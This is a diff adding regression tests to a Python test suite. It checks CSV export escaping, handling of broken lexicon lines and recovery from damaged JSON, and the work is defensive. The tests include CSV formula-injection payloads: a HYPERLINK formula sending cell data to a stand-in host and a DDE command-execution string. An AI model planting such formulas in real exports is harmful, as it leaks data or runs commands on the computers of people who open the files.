@@ -867,6 +867,77 @@ def case_legacy_encoded_article_is_read(c: Ctx):
     assert "città" in json.loads(out)["text"]
 
 
+# == issue 27: round three ==============================================================
+# Each class of the report is a group of rows (item "27.N"); the helpers come first.
+
+def csv_cells(out: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(out)))
+
+
+# -- 27.5 formulas in the CSV export -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.test/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1",
+            "-2+3", "@SUM(A1:A9)"]
+
+
+def case_formula_names_are_written_as_text_in_csv(c: Ctx):
+    for formula in FORMULAS:
+        src = write_json(c.tmp / "f.json", document(name=formula))
+        code, out, err = c.run("import", src, "--format", "csv", "-o", "-")
+        assert code == 0, err
+        [name] = [row[2] for row in csv_cells(out)[1:] if row[1] == "PER"]
+        assert name == "'" + formula, (formula, out)
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv_cells(out)
+                       for cell in row), out
+
+
+# -- 27.12 configuration that breaks every article ----------------------------------------
+
+def case_lexicon_line_without_words_is_skipped_and_named(c: Ctx):
+    config = c.tmp / "config"
+    config.mkdir()
+    (config / "places_it.tsv").write_text("Lerici\tof Lerici\n'\tof nowhere\n",
+                                          encoding="utf-8")
+    (config / "roles_it.tsv").write_text("'\tapostrophe\n", encoding="utf-8")
+    _fresh_lexicon(c, config)
+    try:
+        code, _o, err = c.run("export", c.article(), "--format", "json", "-o", c.tmp / "o.json")
+        assert code == 0, err
+        assert "places_it.tsv line 2" in err and "roles_it.tsv line 1" in err, err
+        data = json.loads((c.tmp / "o.json").read_text(encoding="utf-8"))
+        assert any(e["name"] == "Serghei Lavrov" for e in data["entities"])
+    finally:
+        _reset_lexicon()
+
+
+PEOPLE_DECISIONS_DAMAGE = {
+    "operations a number": '{"version": 1, "ops": 7}',
+    "nested 100,000 deep": '{"version": 1, "ops": ' + "[" * 100_000 + "]" * 100_000 + "}",
+    "a list of strings": '["merge", "split"]',
+}
+
+
+def damaged_people_decisions(name: str) -> Callable[[Ctx], None]:
+    def case(c: Ctx):
+        from tui.store import people_links
+
+        p = people_links.path()
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text(PEOPLE_DECISIONS_DAMAGE[name], encoding="utf-8")
+        code, out, err = c.run("people", c.article(), "--format", "json")
+        assert code == 0, err
+        one_line_errors(err, 1)
+        assert "kept as" in err
+        assert any(person["name"] == "Serghei Lavrov" for person in json.loads(out))
+        [kept] = list(p.parent.glob("people.damaged-*.json"))
+        assert kept.read_text(encoding="utf-8") == PEOPLE_DECISIONS_DAMAGE[name]
+    case.__name__ = "case_damaged_people_decisions_are_set_aside-" + name.replace(" ", "_")
+    return case
+
+
 @dataclass(frozen=True)
 class Case:
     item: str
@@ -918,6 +989,9 @@ CASES = [Case(item, fn.__name__.removeprefix("case_"), fn) for item, fn in [
     ("13", case_brat_label_with_a_newline_reads_back),
     ("15.14", case_import_jsonl_to_ann_beside_it),
     ("15.14", case_brat_import_still_refuses_to_overwrite_its_own_txt),
+    ("27.5", case_formula_names_are_written_as_text_in_csv),
+    ("27.12", case_lexicon_line_without_words_is_skipped_and_named),
+    *[("27.12", damaged_people_decisions(name)) for name in PEOPLE_DECISIONS_DAMAGE],
     ("held", case_binary_input_is_one_line),
     ("held", case_escapes_inside_an_article_are_removed),
     ("held", case_read_only_output_folder_is_one_line),
